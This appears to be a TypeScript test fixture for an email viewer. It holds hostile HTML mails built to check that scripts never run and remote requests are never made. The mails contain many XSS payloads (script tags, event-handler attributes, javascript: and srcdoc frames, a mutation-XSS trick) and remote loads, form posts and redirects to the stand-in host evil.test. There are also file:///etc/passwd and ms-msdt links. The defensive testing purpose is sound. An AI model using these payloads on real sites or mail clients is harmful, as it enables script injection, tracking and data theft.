// Mails as no sanitiser would let them pass. `window.RAN` or a request would be the proof of a hole.

const ran = "document.documentElement.setAttribute('ran','1');document.body.textContent='RAN'"

export const onePixel = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)

const scripts = [
  `<script>${ran}</script>`,
  `<script src="https://evil.test/a.js"></script>`,
  `<script type="module">${ran}</script>`,
  `<img src="x" onerror="${ran}">`,
  `<svg onload="${ran}"><script>${ran}</script></svg>`,
  `<svg><animate onbegin="${ran}" attributeName="x" dur="1s"></animate></svg>`,
  `<body onload="${ran}" onpageshow="${ran}">`,
  `<details open ontoggle="${ran}">x</details>`,
  `<input autofocus onfocus="${ran}">`,
  `<iframe src="javascript:parent.${ran}"></iframe>`,
  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`,
  `<object data="javascript:${ran}"></object><embed src="javascript:${ran}">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${ran}">`,
  `<style>@import 'https://evil.test/i.css';</style>`,
  `<a id="js" href="javascript:${ran}">javascript link</a>`,
  `<marquee onstart="${ran}">x</marquee><video><source onerror="${ran}"></video>`,
]

const requests = [
  '<img src="https://evil.test/pixel.png"><img srcset="https://evil.test/s.png 1x">',
  '<img src="//evil.test/relative.png"><img src="http://127.0.0.1:9/loopback.png">',
  '<link rel="stylesheet" href="https://evil.test/l.css"><link rel="icon" href="https://evil.test/i">',
  '<link rel="dns-prefetch" href="//evil.test"><link rel="preconnect" href="https://evil.test">',
  '<link rel="prefetch" href="https://evil.test/p"><link rel="preload" as="image" href="https://evil.test/q">',
  '<style>@font-face{font-family:f;src:url(https://evil.test/f.woff2)}p{font-family:f;',
  'background:url(https://evil.test/b.png);cursor:url(https://evil.test/c.cur),auto}</style><p>text</p>',
  '<video src="https://evil.test/v" poster="https://evil.test/v.png" autoplay></video>',
  '<audio src="https://evil.test/a" autoplay></audio><track src="https://evil.test/t">',
  '<object data="https://evil.test/o"></object><embed src="https://evil.test/e">',
  '<iframe src="https://evil.test/frame"></iframe><iframe src="file:///etc/passwd"></iframe>',
  '<iframe src="app://copydesk/"></iframe><iframe src="mail://copydesk/plain/"></iframe>',
  '<svg><image href="https://evil.test/svg.png"/><use href="https://evil.test/u.svg#a"/></svg>',
  '<table background="https://evil.test/t.png"><tr><td>x</td></tr></table>',
  '<img src="mail://copydesk/plain/part/other"><img src="file:///etc/passwd">',
]

const leaving = [
  '<meta http-equiv="refresh" content="0;url=https://evil.test/refresh">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<base href="https://evil.test/">',
  '<form action="https://evil.test/post" method="post"><button id="send">send</button></form>',
]

const line = (id: string, attributes: string): string =>
  `<a id="${id}" ${attributes} style="display:block;height:24px;line-height:24px">${id}</a>`

/** Links at known places: each is 24 px high, in this order, from the top. */
export const links = [
  ['plain', 'href="https://plain.test/a?b=1"'],
  ['blank', 'href="https://blank.test/" target="_blank"'],
  ['top', 'href="https://top.test/" target="_top"'],
  ['parent', 'href="app://copydesk/#/settings" target="_parent"'],
  ['mailto', 'href="mailto:ana@desk.test?subject=Hi&attach=/etc/passwd"'],
  ['file', 'href="file:///etc/passwd"'],
  ['smb', 'href="smb://evil.test/share"'],
  ['scheme', 'href="ms-msdt:/id"'],
  ['javascript', `href="javascript:${ran}"`],
  ['data', 'href="data:text/html,<script>1</script>"'],
  ['otherMail', 'href="mail://copydesk/plain/"'],
  ['download', 'href="https://download.test/" download="x.exe"'],
  ['ping', 'href="https://ping.test/" ping="https://evil.test/pinged"'],
] as const

export const mails: Readonly<Record<string, string>> = {
  plain: '<p>Hello</p>',
  hostile: [...scripts, ...requests, ...leaving].join('\n'),
  links: links.map(([id, attributes]) => line(id, attributes)).join(''),
  selfTarget: '<a href="https://self.test/" target="_self">self</a>',
  tall: '<div style="height:1234px">tall</div>',
  wide: '<div style="width:3000px;height:50px">wide</div>',
  short: '<div style="height:41px">short</div>',
  greedy: '<style>html,body{height:100%;min-height:100vh;padding:20px}</style>greedy',
  image:
    '<img id="own" src="part/one"><img id="svg" src="part/svg"><img id="other" src="mail://copydesk/plain/part/one">',
  coloured: '<p style="color:#333">designed on white</p>',
}
